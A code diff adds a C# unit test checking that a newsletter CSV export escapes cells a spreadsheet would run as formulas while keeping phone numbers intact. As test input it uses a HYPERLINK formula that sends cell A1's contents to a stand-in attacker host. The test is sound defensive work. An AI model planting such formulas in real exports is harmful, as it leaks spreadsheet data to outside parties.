@@ -47,6 +47,17 @@ public abstract class AudienceExportTests<TDatabase>(TDatabase database) : IClas
     }
 
     [Fact]
+    public async Task A_csv_export_neutralizes_cells_a_spreadsheet_would_run_as_formulas_and_keeps_phones()
+    {
+        var file = Path.Combine(_directory, "newsletter.csv");
+
+        await Exporter().RunAsync("newsletter", ConsentChannel.Email, ExportFormat.Csv, file, null, CancellationToken.None);
+
+        var member = (await File.ReadAllLinesAsync(file)).Single(l => l.Contains("p1@example.com", StringComparison.Ordinal));
+        Assert.Contains(",+447700900123,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"open\"\")\",Person1,", member, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public async Task A_jsonl_export_writes_one_object_a_line()
     {
         var file = Path.Combine(_directory, "newsletter.jsonl");
